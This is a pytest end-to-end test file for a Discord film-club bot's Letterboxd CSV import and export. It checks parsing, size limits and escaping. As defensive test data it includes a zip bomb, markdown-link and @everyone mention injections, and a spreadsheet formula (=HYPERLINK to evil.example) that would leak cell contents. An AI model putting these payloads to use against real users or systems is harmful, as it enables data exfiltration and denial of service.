"""/letterboxd import and /letterboxd export through the loopback Discord: attachments served by the double's CDN,
reports the member sees, refusals (before downloading when the declared size is too big), and the exported file."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio

from .fake_discord import FakeMember, Upload
from .harness import DiscordDriver, ModuleBot, Reply, default_bot_kind, module_bot

pytestmark = [pytest.mark.e2e, pytest.mark.asyncio(loop_scope="module")]

RATINGS = "Date,Name,Year,Letterboxd URI,Rating"
LIST = "Date,Name,Year,Letterboxd URI"


@dataclass
class Club(ModuleBot):
    def snapshot(self) -> list[tuple[Any, ...]]:
        return [
            (table, *row)
            for table in ("reviews", "watchlist", "member_watched")
            for row in self.query(f"SELECT * FROM {table} ORDER BY 1, 2, 3")
        ]


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def club(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Club]:
    if default_bot_kind() != "real":
        pytest.skip("Letterboxd imports need the real bot")
    async with module_bot(tmp_path_factory.mktemp("letterboxd-e2e")) as (fake, bot):
        yield Club(fake, DiscordDriver(fake), bot)


@pytest.fixture(autouse=True)
def _show_bot_output(request: pytest.FixtureRequest, club: Club) -> None:
    request.node._e2e_bots = [club.bot]


async def run(ctx: Club, path: str, who: FakeMember, /, **options: Any) -> Reply:
    return await ctx.discord.command(f"/{path}", member=who, options=options)


def export_zip() -> bytes:
    """A small export the way Letterboxd makes it: a BOM and CRLF in one file, commas, quotes and non-Latin titles."""
    ratings = "\r\n".join(
        [
            RATINGS,
            "2025-03-01,The Last Waltz,1978,https://boxd.it/1,4.5",
            '2025-03-02,"Crosby, Stills & Nash: ""Long Time Comin\'""",1991,https://boxd.it/2,3',
            "2025-03-03,Dont Look Back,,https://boxd.it/3,4",
            "2025-03-04,花样年华,2000,https://boxd.it/4,5",
            "2025-03-05,@everyone <@&1>,2020,https://boxd.it/5,1",
        ]
    )
    watchlist = "\n".join([LIST, "2025-03-06,Monterey Pop,1968,https://boxd.it/6"])
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("ratings.csv", b"\xef\xbb\xbf" + ratings.encode() + b"\r\n")
        archive.writestr("watchlist.csv", watchlist + "\n")
        archive.writestr("deleted/diary.csv", "Date,Name,Year,Letterboxd URI,Rating,Rewatch,Tags,Watched Date\n")
    return buffer.getvalue()


async def test_importing_an_export_reports_what_matched_and_pings_nobody(club: Club) -> None:
    alice = club.fake.world.alice
    reply = await run(club, "letterboxd import", alice, file=Upload("letterboxd-alice-2025.zip", export_zip()))
    assert reply.response_type == 5  # "thinking" while it downloads and reads
    assert reply.ephemeral
    embed = reply.message.embeds[0]
    assert embed["title"] == "Letterboxd import"
    assert embed["description"] == (
        "Read ratings.csv, watchlist.csv: **6 rows**.\n"
        "• **3 films** matched the catalog (3 rows)\n"
        "• **3 films** added as this server's films (3 rows)"
    )
    fields = {field["name"]: field["value"] for field in embed["fields"]}
    assert fields["Imported"] == (
        "Ratings and reviews: 5 new, 0 updated, 0 unchanged (0 with text)\nWatchlist: 1 film added"
    )
    assert fields["Added as this server's films"].splitlines() == [
        '• Crosby, Stills & Nash: "Long Time Comin\'" (1991)',
        "• 花样年华 (2000)",
        "• @\u200beveryone <@&1> (2020)",
    ]
    assert "Skipped" not in fields and not reply.message.attachments
    assert reply.message.would_ping() == ([], [], False)
    assert sorted(club.query("SELECT rating, source FROM reviews WHERE user_id = ?", (alice.id,))) == [
        (2, "letterboxd"),
        (6, "letterboxd"),
        (8, "letterboxd"),
        (9, "letterboxd"),
        (10, "letterboxd"),
    ]
    assert club.query("SELECT title, year, letterboxd_uri FROM films WHERE guild_id IS NOT NULL ORDER BY id") == [
        ('Crosby, Stills & Nash: "Long Time Comin\'"', 1991, "https://boxd.it/2"),
        ("花样年华", 2000, "https://boxd.it/4"),
        ("@everyone <@&1>", 2020, "https://boxd.it/5"),
    ]
    choices = await club.discord.autocomplete("/film", "title", "花样年华", member=club.fake.world.bob)
    assert [c["name"] for c in choices] == ["花样年华 (2000) · this server's film"]  # every member can name it now

    before = club.snapshot()
    again = await run(club, "letterboxd import", alice, file=Upload("letterboxd-alice-2025.zip", export_zip()))
    assert "Nothing new: everything in this file was already here." in again.message.embeds[0]["description"]
    assert club.snapshot() == before


async def test_a_malformed_file_is_refused_with_its_line_and_imports_nothing(club: Club) -> None:
    bob = club.fake.world.bob
    before = club.snapshot()
    bad = f"{RATINGS}\n2025-01-01,The Last Waltz,1978,u,4\n2025-01-02,Woodstock,1970,u,7\n".encode()
    reply = await run(club, "letterboxd import", bob, file=Upload("ratings.csv", bad))
    assert reply.ephemeral
    assert "ratings.csv, line 3: rating '7' is not 0.5 to 5 stars in half steps; nothing was imported." in reply.text
    not_csv = await run(club, "letterboxd import", bob, file=Upload("ratings.csv", b"\x89PNG\r\n\x1a\n\x00\x00"))
    assert "ratings.csv is not a CSV file" in not_csv.text
    empty = await run(club, "letterboxd import", bob, file=Upload("watchlist.csv", b""))
    assert "watchlist.csv is empty." in empty.text
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("ratings.csv", b"0" * (30 * 1024 * 1024))
    bombed = await run(club, "letterboxd import", bob, file=Upload("letterboxd.zip", bomb.getvalue()))
    assert "inflates" in bombed.text and "nothing was read from it" in bombed.text
    assert club.snapshot() == before


async def test_odd_rows_are_skipped_with_their_reasons_and_the_rest_imports(club: Club) -> None:
    bob = club.fake.world.bob
    long_title = "L" * 300
    rows = [
        "2025-02-01,!!!,2001,u,4",
        "2025-02-02,Some Film,19x5,u,4",
        "2025-02-03,Future Film,2999,u,4",
        f"2025-02-04,{long_title},2001,u,4",
        "2025-02-05,[Click me](https://evil.example) **now**,2001,https://boxd.it/9,3",
    ]
    reply = await run(club, "letterboxd import", bob, file=Upload("ratings.csv", "\n".join([RATINGS, *rows]).encode()))
    assert reply.ephemeral
    embed = reply.message.embeds[0]
    assert embed["description"] == (
        "Read ratings.csv: **5 rows**.\n"
        "• **0 films** matched the catalog (0 rows)\n"
        "• **1 film** added as this server's films (1 row)\n"
        "• **4 rows** skipped (4 films, see below)"
    )
    fields = {field["name"]: field["value"] for field in embed["fields"]}
    assert fields["Added as this server's films"] == (
        "• \\[Click me\\](https://evil.example) \\*\\*now\\*\\* (2001)"  # shown as typed, never a link
    )
    assert fields["Skipped"].splitlines() == [
        "• **1 row**: its Year is not a year: Some Film (19x5)",
        "• **1 row**: its year is before 1874 or more than 2 years ahead: Future Film (2999)",
        f"• **1 row**: its title is longer than 200 characters: {long_title[:59]}…",
        "• **1 row**: its title has no letters or digits: !!! (2001)",
    ]
    assert reply.message.would_ping() == ([], [], False)
    skipped = await run(
        club,
        "letterboxd import",
        bob,
        file=Upload("ratings.csv", f"{RATINGS}\n2025-02-06,Another Film,2002,u,4\n".encode()),
        unmatched="skip",
    )
    assert "• **1 row**: not here, and you chose not to add films (`unmatched: skip`): Another Film (2002)" in (
        skipped.text
    )
    assert not club.query("SELECT 1 FROM films WHERE title = 'Another Film'")


async def test_an_oversized_or_foreign_attachment_is_refused_before_downloading(club: Club) -> None:
    bob = club.fake.world.bob
    downloads = len(club.fake.cdn_downloads)
    huge = await run(club, "letterboxd import", bob, file=Upload("letterboxd.zip", b"PK" + b"\0" * (11 * 1024 * 1024)))
    assert huge.response_type == 4 and huge.ephemeral
    assert "That file is 11.0 MB; imports are limited to 10 MB." in huge.text
    spreadsheet = await run(club, "letterboxd import", bob, file=Upload("films.xlsx", b"PK\x03\x04"))
    assert "Upload the .zip Letterboxd gave you" in spreadsheet.text
    assert len(club.fake.cdn_downloads) == downloads  # neither was fetched


async def test_the_export_is_an_ephemeral_csv_of_reviews_written_here(club: Club) -> None:
    world = club.fake.world
    nothing = await run(club, "letterboxd export", world.carol)
    assert nothing.ephemeral and "Nothing to export yet" in nothing.text

    form = await run(club, "review add", world.alice, film="monterey-pop", rating=4)
    await form.submit_modal(
        {"review:rating": "8", "review:body": 'Otis, "live", and Hendrix, on fire.', "review:spoiler": "no"},
        member=world.alice,
    )
    await run(club, "watched add", world.alice, film="woodstock")
    reply = await run(club, "letterboxd export", world.alice)
    assert reply.response_type == 4 and reply.ephemeral
    assert "2 films you reviewed or marked as seen in the club, ready for Letterboxd" in reply.text
    assert "What came from Letterboxd is left out, so nothing is logged twice there." in reply.text
    [(name, data)] = reply.files.items()
    assert name.startswith("filmclub-for-letterboxd-") and name.endswith(".csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert rows[0] == ["Title", "Year", "Rating", "WatchedDate", "Review", "LetterboxdURI", "tmdbID", "imdbID"]
    body = {row[0]: row for row in rows[1:]}
    assert set(body) == {"Monterey Pop", "Woodstock"}  # the Letterboxd imports are left out
    assert body["Monterey Pop"][1:3] == ["1968", "4"]
    assert body["Monterey Pop"][4] == 'Otis, "live", and Hendrix, on fire.'
    assert body["Woodstock"][2] == "" and len(body["Woodstock"][3]) == 10


async def test_the_backup_export_holds_what_came_from_letterboxd_too(club: Club) -> None:
    alice = club.fake.world.alice
    backup = await run(club, "letterboxd export", alice, what="everything")
    assert backup.ephemeral
    assert "A backup of all your 7 films" in backup.text
    assert "Don't import it into Letterboxd" in backup.text
    [(name, data)] = backup.files.items()
    assert name.startswith("filmclub-backup-")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    assert {(row["Title"], row["Source"], row["LetterboxdURI"]) for row in rows} == {
        ("Monterey Pop", "club", ""),
        ("Woodstock", "club", ""),
        ("The Last Waltz", "letterboxd", ""),  # from the first test's import
        ("Dont Look Back", "letterboxd", ""),
        ('Crosby, Stills & Nash: "Long Time Comin\'"', "letterboxd", "https://boxd.it/2"),  # the server's films
        ("花样年华", "letterboxd", "https://boxd.it/4"),
        ("'@everyone <@&1>", "letterboxd", "https://boxd.it/5"),  # neutralised: "@" starts a spreadsheet formula
    }
    before = club.snapshot()
    again = await run(club, "letterboxd import", alice, file=Upload(name, data))
    assert "Read a filmclub export: **7 rows**." in again.text and "Nothing new" in again.text
    assert club.snapshot() == before


async def test_exported_cells_never_run_as_spreadsheet_formulas(club: Club) -> None:
    bob = club.fake.world.bob
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Trailer")'
    form = await run(club, "review add", bob, film="gimme-shelter", rating=3)
    await form.submit_modal({"review:rating": "6", "review:body": formula, "review:spoiler": "no"}, member=bob)
    reply = await run(club, "letterboxd export", bob)
    [data] = reply.files.values()
    [row] = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    assert row["Review"] == "'" + formula  # shown as text by Excel, LibreOffice and Google Sheets
    assert data.decode("utf-8").splitlines()[1].startswith('"Gimme Shelter","1970",')  # every cell quoted


@pytest.mark.shared_data
async def test_the_real_letterboxd_export_imports(club: Club, shared_data: Path) -> None:
    real_export = shared_data / "letterboxd-export-patrickmjones"
    if not real_export.is_dir():
        pytest.skip(f"the real export is not at {real_export}")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for path in sorted(real_export.rglob("*")):
            if path.is_file():
                archive.write(path, path.relative_to(real_export).as_posix())
    carol = club.fake.world.carol
    reply = await run(club, "letterboxd import", carol, file=Upload("letterboxd-patrickmjones.zip", buffer.getvalue()))
    message = reply.message
    embed = message.embeds[0]
    assert embed["description"].startswith("Read ratings.csv, reviews.csv, diary.csv, watchlist.csv, watched.csv: ")
    assert "**5,708 rows**." in embed["description"]
    counts = re.findall(r"\(([\d,]+) rows?\)", embed["description"])  # catalog, added (and skipped films)
    skipped_rows = re.search(r"\*\*([\d,]+) rows?\*\* skipped", embed["description"])
    assert skipped_rows is not None
    assert sum(int(n.replace(",", "")) for n in counts[:2]) + int(skipped_rows.group(1)) == 5708
    fields = {field["name"]: field["value"] for field in embed["fields"]}
    assert "Seen:" in fields["Imported"] and "Watchlist:" in fields["Imported"]
    assert "…and" in fields["Added as this server's films"]
    assert "Heaven’s Waiting" in fields["Skipped"]
    report = {a.filename: a.data for a in message.attachments}["letterboxd-import.txt"].decode().splitlines()
    assert "Soylent Green (1973)" in report
    assert "Heaven’s Waiting (watchlist.csv, line 9)" in report
    assert len(report) > 3000
    assert club.query("SELECT count(*) FROM films WHERE guild_id IS NOT NULL")[0][0] > 3000
